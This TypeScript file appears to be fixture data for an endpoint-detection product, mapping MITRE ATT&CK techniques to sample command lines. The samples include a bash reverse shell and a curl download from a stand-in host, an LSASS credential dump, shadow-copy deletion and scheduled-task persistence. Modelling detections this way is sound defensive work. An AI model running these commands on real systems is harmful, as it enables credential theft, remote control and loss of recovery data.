/** The attack technique of a detection; the vendor's own techniques begin with CST, some detections have none. */
export interface DetectedTechnique {
  name: string;
  tactic?: string;
  tacticId?: string;
  technique?: string;
  techniqueId?: string;
  filename: string;
  cmdline: string;
  patternId: number;
  /** Platforms on which it occurs; all if omitted. */
  platforms?: readonly string[];
}

const DETECTED_TECHNIQUES: readonly DetectedTechnique[] = [
  {
    name: 'EncodedPowerShell',
    tactic: 'Execution',
    tacticId: 'TA0002',
    technique: 'PowerShell',
    techniqueId: 'T1059.001',
    filename: 'powershell.exe',
    cmdline: 'powershell.exe -NoProfile -EncodedCommand UwB0AGEAcgB0AA==',
    patternId: 10197,
    platforms: ['Windows'],
  },
  {
    name: 'LsassMemoryRead',
    tactic: 'Credential Access',
    tacticId: 'TA0006',
    technique: 'LSASS Memory',
    techniqueId: 'T1003.001',
    filename: 'rundll32.exe',
    cmdline: 'rundll32.exe comsvcs.dll, MiniDump 664 lsass.dmp full',
    patternId: 10136,
    platforms: ['Windows'],
  },
  {
    name: 'RansomwareFileEncryption',
    tactic: 'Impact',
    tacticId: 'TA0040',
    technique: 'Data Encrypted for Impact',
    techniqueId: 'T1486',
    filename: 'update',
    cmdline: 'update --all',
    patternId: 10304,
  },
  {
    name: 'ScheduledTaskPersistence',
    tactic: 'Persistence',
    tacticId: 'TA0003',
    technique: 'Scheduled Task',
    techniqueId: 'T1053.005',
    filename: 'schtasks.exe',
    cmdline: 'schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc minute',
    patternId: 10122,
    platforms: ['Windows'],
  },
  {
    name: 'SmbLateralMovement',
    tactic: 'Lateral Movement',
    tacticId: 'TA0008',
    technique: 'SMB/Windows Admin Shares',
    techniqueId: 'T1021.002',
    filename: 'psexesvc.exe',
    cmdline: 'C:\\Windows\\psexesvc.exe',
    patternId: 10251,
    platforms: ['Windows'],
  },
  {
    name: 'ShadowCopyDeletion',
    tactic: 'Impact',
    tacticId: 'TA0040',
    technique: 'Inhibit System Recovery',
    techniqueId: 'T1490',
    filename: 'vssadmin.exe',
    cmdline: 'vssadmin delete shadows /all /quiet',
    patternId: 10288,
    platforms: ['Windows'],
  },
  {
    name: 'ReverseShell',
    tactic: 'Execution',
    tacticId: 'TA0002',
    technique: 'Unix Shell',
    techniqueId: 'T1059.004',
    filename: 'bash',
    cmdline: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    patternId: 10411,
    platforms: ['Mac', 'Linux'],
  },
  {
    name: 'IngressToolTransfer',
    tactic: 'Command and Control',
    tacticId: 'TA0011',
    technique: 'Ingress Tool Transfer',
    techniqueId: 'T1105',
    filename: 'curl',
    cmdline: 'curl -o /tmp/x http://198.51.100.7/x',
    patternId: 10377,
    platforms: ['Mac', 'Linux'],
  },
  {
    name: 'PupAdwareSensorDetect-Lowest',
    tactic: 'Machine Learning',
    tacticId: 'CSTA0004',
    technique: 'Adware/PUP',
    techniqueId: 'CST0000',
    filename: 'free-toolbar-setup.exe',
    cmdline: 'C:\\Users\\Public\\Downloads\\free-toolbar-setup.exe',
    patternId: 5761,
  },
  {
    name: 'OnSensorMLFileAnalysisMedium',
    tactic: 'Machine Learning',
    tacticId: 'CSTA0004',
    technique: 'Sensor-based ML',
    techniqueId: 'CST0007',
    filename: 'invoice.pdf.exe',
    cmdline: 'C:\\Users\\Public\\Downloads\\invoice.pdf.exe',
    patternId: 5714,
  },
  {
    name: 'SuspiciousActivity',
    filename: 'unknown.bin',
    cmdline: './unknown.bin',
    patternId: 10500,
  },
];

const byPlatform = new Map(
  ['Windows', 'Mac', 'Linux'].map((platform) => [
    platform,
    DETECTED_TECHNIQUES.filter(({ platforms }) => platforms?.includes(platform) ?? true),
  ]),
);

/** Possible detections on hosts of a platform. */
export const techniquesOn = (platform: string): readonly DetectedTechnique[] =>
  byPlatform.get(platform) ?? DETECTED_TECHNIQUES;
